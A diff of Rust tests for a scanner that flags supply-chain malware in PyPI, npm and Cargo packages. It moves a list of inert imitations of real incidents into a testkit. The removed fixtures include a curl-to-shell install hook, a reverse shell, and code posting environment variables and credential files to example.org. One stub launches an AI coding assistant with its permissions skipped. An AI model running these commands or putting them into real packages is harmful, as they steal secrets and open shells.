@@ -1,5 +1,7 @@
 use std::io::{Cursor, Write};
 
+use countersign_testkit::imitations;
+
 use super::*;
 
 /// A `.tar.gz` with one top directory.
@@ -47,7 +49,13 @@ fn scanned_after(
         previous,
         max_unpacked: 512 << 20,
     };
-    scan(&Rules::own().unwrap(), &request, &mut Cursor::new(bytes)).unwrap()
+    scan(
+        &Rules::own().unwrap(),
+        None,
+        &request,
+        &mut Cursor::new(bytes),
+    )
+    .unwrap()
 }
 
 fn scanned(ecosystem: Ecosystem, files: &[(&str, &str)]) -> Outcome {
@@ -66,84 +74,18 @@ const PYPI: Ecosystem = Ecosystem::Pypi;
 const CARGO: Ecosystem = Ecosystem::Cargo;
 const NPM: Ecosystem = Ecosystem::Npm;
 
-/// What it imitates, its files by their paths, and the rule that finds it.
-type Imitation = (
-    &'static str,
-    Ecosystem,
-    Vec<(&'static str, String)>,
-    &'static str,
-);
-
-/// Harmless imitations of what attackers did since 2024, by the class of the incident: none of them does anything.
-fn imitations() -> Vec<Imitation> {
-    let hook = |script: &str| {
-        format!(
-            "{{\"name\":\"thing\",\"version\":\"1.0.0\",\"scripts\":{{\"postinstall\":\"{script}\"}}}}"
-        )
-    };
-    let unreadable = |more: &str| {
-        let mut text: String = (0..60)
-            .map(|n| format!("var _0x{:04x}={n};", 0x1a00 + n))
-            .collect();
-        text.push_str(more);
-        text
-    };
-    vec![
-        ("a maintainer's update that decodes and runs (aiocpa)", PYPI,
-            vec![("thing/__init__.py", "import base64, zlib\nexec(zlib.decompress(base64.b64decode(b'AAAA')))\n".into())], "python-decodes-and-runs"),
-        ("a build of ultralytics with a download", PYPI,
-            vec![("setup.py", "import urllib.request, subprocess\nurllib.request.urlopen('https://example.org/x')\nsubprocess.run(['./x'])\n".into())], "install-downloads-and-runs"),
-        ("a worm that publishes itself (Shai-Hulud)", NPM,
-            vec![("package.json", hook("node bundle.js")), ("bundle.js", "const t=process.env.NPM_TOKEN; require('child_process').execSync('npm publish'); // .npmrc _authToken trufflehog fetch(\n".into())], "worm-publishes-itself"),
-        ("a scanner for secrets (Shai-Hulud)", NPM,
-            vec![("package.json", hook("node bundle.js")), ("bundle.js", "download('trufflehog'); fetch('https://example.org/user/repos', {env: process.env})\n".into())], "scans-for-secrets"),
-        ("assistants turned on their user (s1ngularity)", NPM,
-            vec![("package.json", hook("node telemetry.js")), ("telemetry.js", "spawn('claude', ['--dangerously-skip-permissions', '-p', prompt])\n".into())], "turns-assistants-on-their-user"),
-        ("a repository made with somebody's token (s1ngularity)", NPM,
-            vec![("package.json", hook("node telemetry.js")), ("telemetry.js", "const token = run('gh auth token'); post('/user/repos', base64(process.env))\n".into())], "makes-repositories"),
-        ("a wallet hook (chalk, debug)", NPM,
-            vec![("package.json", "{\"name\":\"thing\",\"version\":\"1.0.0\"}".into()), ("index.js", unreadable("if(window.ethereum){XMLHttpRequest.prototype.send=_0x1a01}"))], "wallet-hook"),
-        ("a .pth that starts something (LiteLLM)", PYPI,
-            vec![("thing_init.pth", "import os, subprocess; subprocess.Popen(['true'])\n".into())], "pth-runs-code"),
-        ("an installation that sends the environment (GhostAction)", PYPI,
-            vec![("setup.py", "import os, requests\nrequests.post('https://example.org', json=dict(os.environ))\n".into())], "install-sends-environment"),
-        ("a trojan by a new dependency (axios)", NPM,
-            vec![("package.json", hook("node setup.js")), ("setup.js", unreadable("require('https').get(_0x1a01)"))], "unreadable-javascript"),
-        ("the memory of a runner (TanStack, tj-actions)", NPM,
-            vec![("package.json", hook("node r.js")), ("r.js", "open(`/proc/${pid}/mem`); grep('Runner.Worker')\n".into())], "reads-runner-memory"),
-        ("keys sought in sources (faster_log)", CARGO,
-            vec![("Cargo.toml", "[package]\nname='thing'\nversion='1.0.0'\n".into()), ("src/lib.rs", "const KEY: &str = r\"0x[0-9a-fA-F]{64}\"; fn go() { reqwest::Client::new().post(\"https://example.org\"); } // ethereum\n".into())], "rust-searches-for-keys"),
-        ("a macro that sends (arrayref's dependency)", CARGO,
-            vec![("Cargo.toml", "[package]\nname='thing'\nversion='1.0.0'\n[lib]\nproc-macro = true\n".into()), ("src/lib.rs", "fn go() { let all: Vec<_> = std::env::vars().collect(); std::net::TcpStream::connect(\"example.org:443\"); }\n".into())], "build-script-sends"),
-        ("credentials of clouds (Mini Shai-Hulud)", NPM,
-            vec![("package.json", hook("node c.js")), ("c.js", "fetch('http://169.254.169.254/latest/meta-data/')\n".into())], "install-asks-cloud-metadata"),
-        ("files of credentials, sent", PYPI,
-            vec![("setup.py", "import urllib.request\nopen('.aws/credentials').read()\nurllib.request.urlopen('https://example.org')\n".into())], "install-reads-credentials-and-sends"),
-        ("a tool for chats that takes passwords of browsers (gems and wheels of 2025)", PYPI,
-            vec![("thing/steal.py", "p='Google\\\\Chrome\\\\User Data\\\\Local State'; win32crypt.CryptUnprotectData(k); requests.post(url) # Login Data\n".into())], "reads-browsers"),
-        ("a shell for somebody else", PYPI,
-            vec![("thing/x.py", "import os\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh','-i'])\n".into())], "reverse-shell"),
-        ("a message to a chat's webhook at installation", NPM,
-            vec![("package.json", hook("node n.js")), ("n.js", "post('https://discord.com/api/webhooks/1/x', os.hostname())\n".into())], "reports-to-drop-box"),
-        ("a download given to a shell", NPM,
-            vec![("package.json", hook("curl -s https://example.org/i | sh"))], "install-pipes-to-shell"),
-        ("code in characters that nobody sees (GlassWorm)", NPM,
-            vec![("package.json", "{\"name\":\"thing\",\"version\":\"1.0.0\"}".into()), ("lib.js", format!("eval(decode('{}'))\n", "\u{fe01}\u{fe0f}".repeat(40)))], "hidden-characters"),
-        ("a token in the package (the administrator's of 2024)", PYPI,
-            vec![("thing/config.py", format!("TOKEN = 'ghp_{}'\n", "aB3dE5gH7jK9mN1pQ3sT5vX7zA2cD4fG6iJ8"))], "secret-github"),
-        ("something that stays", NPM,
-            vec![("package.json", hook("node s.js")), ("s.js", "https.get(u); write(home + '/Library/LaunchAgents/x.plist')\n".into())], "install-stays"),
-    ]
-}
-
 #[test]
 fn every_imitation_of_an_incident_is_found_at_its_place() {
-    for (what, ecosystem, files, rule) in imitations() {
-        let files: Vec<(&str, &str)> = files
+    let all = imitations::all();
+    assert!(all.len() > 25, "{}", all.len());
+    for imitation in all {
+        let (what, rule) = (imitation.what, imitation.rule);
+        let files: Vec<(&str, &str)> = imitation
+            .files
             .iter()
             .map(|(path, text)| (*path, text.as_str()))
             .collect();
-        let outcome = scanned(ecosystem, &files);
+        let outcome = scanned(imitation.ecosystem.parse().unwrap(), &files);
         let found = outcome.findings.iter().find(|finding| finding.rule == rule);
         let found = found.unwrap_or_else(|| panic!("{what}: {:?}", ids(&outcome)));
         assert!(found.score > 0 && found.line > 0, "{what}: {found:?}");
@@ -161,7 +103,7 @@ fn every_rule_has_an_imitation_or_is_listed_here() {
     let others = ["sweeps-credentials-and-sends", "turned-text"];
     let rules = Rules::own().unwrap();
     assert!(rules.count() >= 15);
-    let shown: Vec<&str> = imitations().iter().map(|(_, _, _, rule)| *rule).collect();
+    let shown: Vec<&str> = imitations::all().iter().map(|one| one.rule).collect();
     for id in rules.ids() {
         assert!(
             shown.contains(&id) || others.contains(&id),
@@ -377,7 +319,7 @@ fn damaged_archives_are_refused_and_nothing_is_said_of_them() {
             max_unpacked: 512 << 20,
         };
         assert!(
-            scan(&rules, &request, &mut Cursor::new(&whole[..cut])).is_err(),
+            scan(&rules, None, &request, &mut Cursor::new(&whole[..cut])).is_err(),
             "{cut}"
         );
     }
